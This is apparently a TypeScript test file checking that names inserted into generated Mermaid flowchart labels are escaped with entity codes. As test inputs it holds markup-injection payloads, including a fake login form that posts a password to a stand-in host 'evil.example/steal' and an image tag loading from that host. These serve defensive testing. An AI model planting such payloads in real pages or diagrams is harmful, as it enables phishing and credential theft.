// Names from models inside generated mermaid text: escaped with mermaid's entity codes so a label
// shows the name as written (no HTML, no markdown, no early end of the quoted label).
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mermaidLabelText } from '../../../src/kernels/mermaid/label';
import { gatewayKernel } from '../../../src/kernels/gateway';
import { topology } from '../../../src/kernels/gateway/report';
import { emptyScope } from '../../../src/kernels/model';

// Expected values: mermaid's flowchart docs, "Entity codes to escape characters" (`#quot;`, `#9829;`):
// a code is `#` + decimal code point + `;`, decoded to `&#…;` in the SVG after sanitising.
const cases: [name: string, input: string, expected: string][] = [
  ['plain text is unchanged', 'orders-api v2 (EU)', 'orders-api v2 (EU)'],
  ['quote cannot end the label', 'say "hi"', 'say #34;hi#34;'],
  ['markup is text', '<b>x</b>', '#60;b#62;x#60;/b#62;'],
  ['ampersand', 'R&D', 'R#38;D'],
  ['a literal entity code stays literal', '#lt; #9829;', '#35;lt; #35;9829;'],
  ['backtick cannot start a markdown string', '`**bold**`', '#96;**bold**#96;'],
  ['backslash', 'a\\nb', 'a#92;nb'],
  ['control characters become one space', 'a\n\r\tb', 'a b'],
  [
    'the reported form',
    "<form action='https://evil.example/steal' method='post'><input name='pw'><button>Log in</button></form>",
    "#60;form action='https://evil.example/steal' method='post'#62;#60;input name='pw'#62;#60;button#62;Log in#60;/button#62;#60;/form#62;",
  ],
];

describe('mermaidLabelText', () => {
  for (const [name, input, expected] of cases) it(name, () => assert.equal(mermaidLabelText(input), expected));
});

describe('gateway topology', () => {
  it('escapes client, route and service names', () => {
    const src = `services:
  "<b>svc</b>": { latency: { dist: constant, mean: 10 ms } }
clients:
  - name: 'Mallory "<img src=//evil.example/c.png>"'
routes:
  - path: /login
    name: "<a href='https://evil.example'>Log in</a>"
    service: "<b>svc</b>"
traffic:
  rate: 10
  duration: 1 s
  requests:
    - path: /login
`;
    const parsed = gatewayKernel.parse(src, { cellIndex: 0, scope: emptyScope });
    assert.deepEqual(parsed.diagnostics, []);
    assert.equal(
      topology(parsed.parsed!.model),
      [
        'flowchart LR',
        '  c0["Mallory #34;#60;img src=//evil.example/c.png#62;#34;"] --> gw',
        '  gw{{"gateway (envoy)"}}',
        '  gw --> r0["#60;a href=\'https://evil.example\'#62;Log in#60;/a#62;"]',
        '  r0 --> s__b_svc__b_',
        '  s__b_svc__b_["#60;b#62;svc#60;/b#62; ×1"]',
      ].join('\n'),
    );
  });
});
